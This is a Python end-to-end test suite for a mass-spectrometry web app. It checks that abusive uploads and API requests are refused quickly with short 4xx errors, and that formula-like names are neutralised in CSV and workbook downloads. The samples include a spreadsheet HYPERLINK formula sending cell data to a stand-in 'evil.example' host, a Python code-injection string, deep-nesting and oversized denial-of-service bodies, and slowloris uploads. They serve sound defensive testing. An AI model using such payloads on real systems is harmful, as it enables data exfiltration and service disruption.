"""Abuse of the UI and the REST API: huge, deep, non-finite or formula-like input gets a 4xx naming the
field, quickly, and leaves no job and no GridFS file behind; formula-like names come out neutralised."""

from __future__ import annotations

import csv
import io
import time
import zipfile
from collections.abc import Iterator
from json import loads as json_loads
from typing import Any

import pytest
import requests
from pymongo import MongoClient

from tests.e2e.client import SlowUpload, StackClient, error_text
from tests.e2e.data import shipped

POS_NAME, POS = shipped("pos")["pos"]
HANG_GUARD_S = 10.0  # a hang guard, not a benchmark
SLOWEST: list[tuple[float, str]] = []


def _table(extra_column: str) -> bytes:
    """A small feature table: Mass, Retention_Time and one more column named `extra_column`."""
    return f"Mass,Retention_Time,{extra_column}\n100,1,1\n101,2,1\n".encode()


def _wide(columns: int) -> bytes:
    names = ",".join(f"S{i}_{i % 3}" for i in range(columns))
    return f"Mass,Retention_Time,{names}\n100,1,{','.join(['1'] * columns)}\n".encode()


def _long_cell(chars: int) -> bytes:
    return f"Mass,Retention_Time,Name,A_1\n100,1,{'x' * chars},1\n101,2,y,1\n".encode()


def _tracers(rows: int) -> bytes:
    body = "".join(f"Esi+,T{i},{100 + i},{1 + i / 1000}\n" for i in range(rows))
    return f"Ionization_Mode,Chemical_Name,Monoisotopic_Mass,Retention_Time\n{body}".encode()


GOOD = {"pos": (POS_NAME, POS)}
TEN_MB = "1" * (10 * 1024 * 1024)

# id -> (files, parameters, words the message must contain (field names), status, or None for any 4xx)
UPLOADS: dict[str, tuple[dict, dict, list[str], int | None]] = {
    # numeric parameters: finite and within the documented range
    "mass_accuracy inf": (GOOD, {"mass_accuracy": "inf"}, ["mass_accuracy", "finite"], 400),
    "mass_accuracy -inf": (GOOD, {"mass_accuracy": "-inf"}, ["mass_accuracy"], 400),
    "mass_accuracy nan": (GOOD, {"mass_accuracy": "nan"}, ["mass_accuracy"], 400),
    "mass_accuracy 1e309": (GOOD, {"mass_accuracy": "1e309"}, ["mass_accuracy"], 400),
    "mass_accuracy 1e6 ppm": (GOOD, {"mass_accuracy": "1_000_000"}, ["mass_accuracy", "1000"], 400),
    "mass_accuracy 20 Da": (GOOD, {"mass_accuracy_units": "Da", "mass_accuracy": "20"}, ["mass_accuracy", "Da"], 400),
    "mass_accuracy hex": (GOOD, {"mass_accuracy": "0x10"}, ["mass_accuracy", "number"], 400),
    "mass_accuracy --5": (GOOD, {"mass_accuracy": "--5"}, ["mass_accuracy"], 400),
    "rt_accuracy 1e9": (GOOD, {"rt_accuracy": "1e9"}, ["rt_accuracy", "60"], 400),
    "rt_accuracy_tr 1e9": (GOOD, {"rt_accuracy_tr": "1e9"}, ["rt_accuracy_tr"], 400),
    "mass_accuracy_tr 1e6": (GOOD, {"mass_accuracy_tr": "1e6"}, ["mass_accuracy_tr"], 400),
    "minimum_rt 1e12": (GOOD, {"minimum_rt": "1e12"}, ["minimum_rt"], 400),
    "max_replicate_cv 1e6": (GOOD, {"max_replicate_cv": "1e6"}, ["max_replicate_cv"], 400),
    "max_replicate_cv nan": (GOOD, {"max_replicate_cv": "NaN"}, ["max_replicate_cv"], 400),
    "parent_ion_mass_accuracy 0": (GOOD, {"parent_ion_mass_accuracy": "0"}, ["parent_ion_mass_accuracy"], 400),
    "parent_ion_mass_accuracy inf": (GOOD, {"parent_ion_mass_accuracy": "Infinity"}, ["parent_ion_mass_accuracy"],
                                     400),
    "min_replicate_hits_blanks 101": (GOOD, {"min_replicate_hits_blanks": "101"}, ["min_replicate_hits_blanks"], 400),
    "min_replicate_hits underflow": (GOOD, {"min_replicate_hits": "1e-400"}, ["min_replicate_hits"], 400),
    "mrl_std_multiplier inf": (GOOD, {"mrl_std_multiplier": "inf"}, ["mrl_std_multiplier"], 400),
    # text and list lengths
    "10 MB number": (GOOD, {"mass_accuracy": TEN_MB}, ["mass_accuracy", "characters"], 400),
    "200 KB project name": (GOOD, {"project_name": "p" * 200_000}, ["project_name", "characters"], 400),
    "101-character project name": (GOOD, {"project_name": "p" * 101}, ["project_name", "100"], 400),
    "project name with a newline": (GOOD, {"project_name": "a\nb"}, ["project_name", "control"], 400),
    "blank project name": (GOOD, {"project_name": "   "}, ["project"], 400),
    "long na_val": (GOOD, {"na_val": "0" * 1000}, ["na_val", "32"], 400),
    "100 adduct values": (GOOD, {"pos_adducts": ["Na"] * 100}, ["pos_adducts", "values"], 400),
    "2000-character adduct": (GOOD, {"pos_adducts": ["N" * 2000]}, ["pos_adducts"], 400),
    "list text with code": (GOOD, {"neutral_losses": "['H2O', __import__('os')]"}, ["neutral_losses"], 400),
    "deeply nested list text": (GOOD, {"neutral_losses": "[" * 400 + "]" * 400}, ["neutral_losses"], 400),
    "5000-character search mode": (GOOD, {"search_mode": "m" * 5000}, ["search_mode"], 400),
    "NUL in a choice": (GOOD, {"tracer_plot_yaxis_format": "log\x00"}, ["tracer_plot_yaxis_format"], 400),
    # tables: columns, header, cells, rows, tracers, names
    # 200,000 names do not fit the header-line limit either; either limit may answer first
    "200,000 columns": ({"pos": ("wide.csv", _wide(200_000))}, {}, ["wide.csv", "NTA_MAX_"], 400),
    "2,001 columns": ({"pos": ("wide.csv", _wide(2001))}, {}, ["wide.csv", "2,003 columns"], 400),
    "200,000-character column name": ({"pos": ("name.csv", _table("A" * 200_000))}, {}, ["name.csv", "column name"],
                                      400),
    "300-character column name": ({"pos": ("name.csv", _table("A" * 300))}, {}, ["name.csv", "256"], 400),
    "1.2 MB header line": ({"pos": ("hdr.csv", _wide(100_000).replace(b"_", b"__________"))}, {},
                           ["hdr.csv", "header line"], 400),
    "200 KB text cell": ({"pos": ("cell.csv", _long_cell(200_000))}, {}, ["cell.csv", "row 2", "cell"], 400),
    "5,000-character text cell": ({"pos": ("cell.csv", _long_cell(5000))}, {}, ["cell.csv", "4,096"], 400),
    "200,001 rows": ({"pos": ("rows.csv", b"Mass,Retention_Time,A_1\n" + b"1,2,3\n" * 200_001)}, {},
                     ["rows.csv", "rows", "NTA_MAX_ROWS"], 400),
    "1,001 tracers": ({**GOOD, "tracers": ("tr.csv", _tracers(1001))}, {}, ["tr.csv", "NTA_MAX_TRACERS"], 400),
    "tracer file with 200 KB cell": ({**GOOD, "tracers": ("tr.csv", _tracers(2).replace(b"T0", b"T" * 200_000))}, {},
                                     ["tr.csv", "cell"], 400),
    "run sequence with 200 KB cell": ({**GOOD, "run_sequence_pos": ("rs.csv", b"Sample,Type\n" + b"x" * 200_000
                                                                    + b",Blank\n")}, {}, ["rs.csv", "cell"], 400),
    "300-character file name": ({"pos": ("a" * 300 + ".csv", POS)}, {}, ["pos", "file name", "200"], 400),
    "201-character file name": ({"pos": ("a" * 197 + ".csv", POS)}, {}, ["pos", "file name"], 400),
    "NUL after the sniffed bytes": ({"pos": ("nul.csv", POS + b"\n100,1\x00\x00,1\n")}, {}, ["nul.csv"], None),
    "formula-like column names only": ({"pos": ("f.csv", b"=cmd,@x\n1,2\n")}, {}, ["f.csv", "Mass"], 400),
    "quote never closed": ({"pos": ("q.csv", b'Mass,Retention_Time,A_1\n100,1,"' + b"x" * 200_000 + b"\n")}, {},
                           ["q.csv"], 400),
}  # fmt: skip


@pytest.fixture(scope="module", autouse=True)
def report_slowest() -> Iterator[None]:
    yield
    if SLOWEST:
        seconds, what = max(SLOWEST)
        print(f"\nslowest rejected request: {what}: {seconds:.2f} s (of {len(SLOWEST)} timed)")


@pytest.fixture(scope="module")
def mongo(stack) -> Iterator[Any]:
    if not stack.mongo_url:
        yield None
        return
    client: MongoClient = MongoClient(stack.mongo_url, serverSelectionTimeoutMS=5000)
    yield client["nta"]
    client.close()


def _counts(client: StackClient, db: Any) -> tuple[int, int, int]:
    """Jobs (API), jobs and GridFS files (database, when the suite runs the stack)."""
    if db is None:
        return client.job_count(), 0, 0
    # The nx-27017 stand-in turns a query on a missing fs.files into a plain collection that then breaks its GridFS:
    # count it only once a GridFS upload created it.
    names = db.list_collection_names()
    files = db["fs.files"].count_documents({}) if "fs.files" in names else 0
    return client.job_count(), db["jobs"].count_documents({}), files


def _timed(what: str, call: Any) -> requests.Response:
    start = time.monotonic()
    resp = call()
    seconds = time.monotonic() - start
    SLOWEST.append((seconds, what))
    assert seconds < HANG_GUARD_S, f"{what}: {seconds:.1f} s"
    return resp


def _refused(resp: requests.Response, case: str, words: list[str], status: int | None) -> str:
    assert 400 <= resp.status_code < 500, f"{case}: HTTP {resp.status_code}: {resp.text[:300]}"
    if status is not None:
        assert resp.status_code == status, f"{case}: HTTP {resp.status_code}: {resp.text[:300]}"
    message = error_text(resp)
    for word in words:
        assert word.lower() in message.lower(), f"{case}: {word!r} not in {message[:500]!r}"
    return message


@pytest.mark.parametrize("case", UPLOADS, ids=list(UPLOADS))
def test_abuse_upload_is_refused_quickly_and_leaves_nothing(client: StackClient, mongo: Any, case: str) -> None:
    files, params, words, status = UPLOADS[case]
    before = _counts(client, mongo)
    resp = _timed(case, lambda: client.upload(files, params))
    message = _refused(resp, case, words, status)
    assert len(message) < 2000, f"{case}: the message quotes too much ({len(message)} characters)"
    assert _counts(client, mongo) == before, f"{case}: a job or GridFS file was left behind"


HTML_CASES = ["mass_accuracy inf", "10 MB number", "200,000 columns", "200,000-character column name",
              "200 KB text cell", "rt_accuracy 1e9"]  # fmt: skip


@pytest.mark.parametrize("case", HTML_CASES)
def test_abuse_html_form_post_is_a_short_page_naming_the_field(client: StackClient, mongo: Any, case: str) -> None:
    files, params, words, status = UPLOADS[case]
    before = _counts(client, mongo)
    resp = _timed(f"html {case}", lambda: client.upload(files, params, json=False))
    assert resp.status_code == status and "<form" in resp.text, f"{case}: HTTP {resp.status_code}"
    _refused(resp, case, [w for w in words if w != "characters"], status)
    assert len(resp.content) < 300_000, f"{case}: the page echoes the input ({len(resp.content)} bytes)"
    assert _counts(client, mongo) == before


def test_abuse_too_many_form_fields_is_a_400(client: StackClient, mongo: Any) -> None:
    before = _counts(client, mongo)
    params = {f"x{i}": "1" for i in range(300)}
    resp = _timed("300 form fields", lambda: client.upload(GOOD, params))
    _refused(resp, "300 form fields", ["fields"], 400)
    assert _counts(client, mongo) == before


def _batch(client: StackClient, **kwargs: Any) -> requests.Response:
    return client.http.post(client.url("/nta/rest/ms1/batch/e2e"), timeout=30, **kwargs)


JSON = {"Content-Type": "application/json"}
# id -> (raw body, words of the message, status)
API_ABUSE: dict[str, tuple[bytes, list[str], int]] = {
    "100,000-deep list": (b"[" * 100_000 + b"]" * 100_000, ["nested"], 400),
    "100,000-deep object": (b'{"a":' * 100_000 + b"1" + b"}" * 100_000, ["nested"], 400),
    "1,000-deep query": (b'{"search_by":"mass","accuracy":5,"query":' + b"[" * 1000 + b"]" * 1000 + b"}",
                         ["nested"], 400),
    "40-deep object": (b'{"a":' * 40 + b"1" + b"}" * 40, ["nested"], 400),
    "accuracy Infinity": (b'{"search_by":"mass","query":[100.0],"accuracy":Infinity}', ["JSON"], 400),
    "accuracy NaN": (b'{"search_by":"mass","query":[100.0],"accuracy":NaN}', ["JSON"], 400),
    "accuracy 1e999": (b'{"search_by":"mass","query":[100.0],"accuracy":1e999}', ["accuracy"], 400),
    "mass 1e999": (b'{"search_by":"mass","query":[1e999],"accuracy":5}', ["query item 1"], 400),
    "5,000-digit integer": (b'{"search_by":"mass","query":[' + b"9" * 5000 + b'],"accuracy":5}', ["JSON"], 400),
    "1 MB formula": (b'{"search_by":"formula","query":["' + b"C" * 1_000_000 + b'"]}', ["query item 1"], 400),
    "1 MB search_by": (b'{"search_by":"' + b"m" * 1_000_000 + b'","query":[1],"accuracy":5}', ["search_by"], 400),
    "query of nested lists": (b'{"search_by":"mass","accuracy":5,"query":[' + b"[" * 20 + b"]" * 20 + b"]}",
                              ["query item 1"], 400),
    "20,001 queries": (b'{"search_by":"mass","accuracy":5,"query":[' + b",".join([b"100.0"] * 20_001) + b"]}",
                       ["20000"], 413),
    "not UTF-8": (b"\xff\xfe\x00{\x00}", ["JSON"], 400),
    "JSON list body": (b"[1,2,3]", ["JSON object"], 400),
    "17 MB body": (b'{"search_by":"formula","query":["' + b"C" * (17 * 1024 * 1024) + b'"]}', ["16 MB"], 413),
}  # fmt: skip


@pytest.mark.parametrize("case", API_ABUSE, ids=list(API_ABUSE))
def test_abuse_search_request_is_a_json_4xx(client: StackClient, case: str) -> None:
    body, words, status = API_ABUSE[case]
    resp = _timed(f"api {case}", lambda: _batch(client, data=body, headers=JSON))
    assert resp.status_code == status, f"{case}: HTTP {resp.status_code}: {resp.text[:300]}"
    assert resp.headers["Content-Type"].startswith("application/json"), resp.text[:200]
    message = resp.json()["error"]
    assert len(message) < 500, f"{case}: the error echoes the input ({len(message)} characters)"
    for word in words:
        assert word.lower() in message.lower(), f"{case}: {word!r} not in {message!r}"


# id -> (path, status, or None for any 4xx: a long request line meets the server's own limit, 414 in gunicorn)
GET_ABUSE: dict[str, tuple[str, int | None]] = {
    "job list limit of 5,000 digits": ("/nta/rest/jobs/?limit=" + "9" * 5000, None),
    "job list limit 1e999": ("/nta/rest/jobs/?limit=1e999", 400),
    "job list limit nan": ("/nta/rest/jobs/?limit=nan", 400),
    "REST job id of 65 characters": ("/nta/rest/jobs/" + "a" * 65, 400),
    "REST result name of 2,000 characters": ("/nta/rest/jobs/nope/results/" + "r" * 2000, 404),
    "batch job id of 65 characters": ("/nta/rest/ms1/batch/" + "a" * 65, 405),  # GET on a POST route
    "web job page of a 500-character id": ("/nta/jobs/" + "j" * 500 + "/", 404),
    "web status of a 500-character id": ("/nta/jobs/" + "j" * 500 + "/status.json", 404),
    "web results with a 5,000-digit page": ("/nta/jobs/nope/results/?page=" + "9" * 5000, None),
    "web results with a 3,000-digit page": ("/nta/jobs/nope/results/?page=" + "9" * 3000, 404),
    "web file of a 2,000-character name": ("/nta/jobs/nope/files/" + "f" * 2000, 404),
}


@pytest.mark.parametrize("case", GET_ABUSE, ids=list(GET_ABUSE))
def test_abuse_get_is_a_short_4xx(client: StackClient, case: str) -> None:
    path, status = GET_ABUSE[case]
    resp = _timed(case, lambda: client.http.get(client.url(path), timeout=30, headers={"Accept": "application/json"}))
    assert 400 <= resp.status_code < 500, f"{case}: HTTP {resp.status_code}: {resp.text[:300]}"
    if status is not None:
        assert resp.status_code == status, f"{case}: HTTP {resp.status_code}: {resp.text[:300]}"
    assert len(resp.content) < 20_000


def test_abuse_batch_job_id_of_65_characters_is_a_400(client: StackClient) -> None:
    resp = _timed("batch long job id", lambda: client.http.post(client.url("/nta/rest/ms1/batch/" + "a" * 65),
                                                                 json={"search_by": "mass", "query": [1.0],
                                                                       "accuracy": 5}, timeout=30))  # fmt: skip
    assert resp.status_code == 400 and "job_id" in resp.json()["error"]


# ------------------------------------------------------------------------------ outputs safe to open

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture(scope="module")
def formula_job(client_module: StackClient) -> tuple[StackClient, str, dict]:
    files = {"pos": ("=1+2.csv", POS)}
    job_id = client_module.submit(files, {"project_name": FORMULA[:100], "search_dsstox": "no"})
    status, _ = client_module.wait(job_id, timeout=240)
    assert status["status"] == "completed", status
    return client_module, job_id, status


@pytest.fixture(scope="module")
def client_module(stack) -> StackClient:
    return StackClient(stack.base_url)


def _csv_cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]


def test_abuse_formula_project_and_file_names_are_neutralised_in_every_csv(formula_job) -> None:
    client, job_id, _ = formula_job
    resp = client.file(job_id, "csv_zip")
    assert resp.status_code == 200
    with zipfile.ZipFile(io.BytesIO(resp.content)) as zf:
        cells = {name: _csv_cells(zf.read(name)) for name in zf.namelist()}
    params = cells["Analysis_Parameters.csv"]
    assert "'" + FORMULA[:100] in params and "'=1+2.csv" in params
    live = [(n, c) for n, cs in cells.items() for c in cs if c[:1] in ("=", "+", "@", "\t", "\r")]
    live += [(n, c) for n, cs in cells.items() for c in cs if c.startswith("-") and not _is_number(c)]
    assert not live, f"formula-like cells in the CSV downloads: {live[:5]}"


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_abuse_formula_names_stay_text_in_the_workbook(formula_job) -> None:
    client, job_id, _ = formula_job
    resp = client.file(job_id, "workbook")
    with zipfile.ZipFile(io.BytesIO(resp.content)) as zf:
        xml = {n: zf.read(n).decode() for n in zf.namelist() if n.startswith("xl/worksheets/")}
    assert not [n for n, x in xml.items() if "<f>" in x or "<f " in x], "a workbook cell is a formula"
    assert any("=1+2.csv" in x for x in xml.values()), "the file name is missing from the workbook"


def test_abuse_results_page_renders_for_the_formula_job(formula_job) -> None:
    client, job_id, _ = formula_job
    for sheet in ("", "Analysis_Parameters"):
        resp = _timed("results page", lambda s=sheet: client.http.get(
            client.url(f"/nta/jobs/{job_id}/results/?sheet={s}"), timeout=30))  # fmt: skip
        assert resp.status_code == 200, resp.text[:300]
        assert "=HYPERLINK(&quot;http://evil.example/" in resp.text  # shown as escaped text


SLOW_CLIENTS = 12  # more than the Django server's threads (8, nta_devserver.gunicorn; the prod image has 2 x 4)


def test_abuse_slow_uploads_leave_the_web_ui_answering(client: StackClient) -> None:
    """Uploads that trickle in (slowloris) hold no Django thread: nginx buffers their bodies, so while more of them
    are half-sent than Django has threads, a page still answers at once, and a slow upload still lands whole."""
    requests_ = [client.prepare_upload(GOOD, {"project_name": f"slow {i}", "search_dsstox": "no"})
                 for i in range(SLOW_CLIENTS)]  # fmt: skip
    uploads = [SlowUpload(r) for r in requests_]
    try:
        for upload in uploads:
            upload.send(len(upload.body) // 2)
        time.sleep(0.5)  # nginx has read what was sent (and, were it streaming, passed it on)
        resp = _timed("a page during slow uploads", lambda: client.http.get(client.url("/nta/"), timeout=HANG_GUARD_S))
        assert resp.status_code == 200, resp.text[:300]
        status, body = uploads[0].finish()
        assert status == 201, body[:500]
        assert client.wait(json_loads(body)["job_id"])[0]["status"] == "completed"
    finally:
        for upload in uploads:
            upload.close()
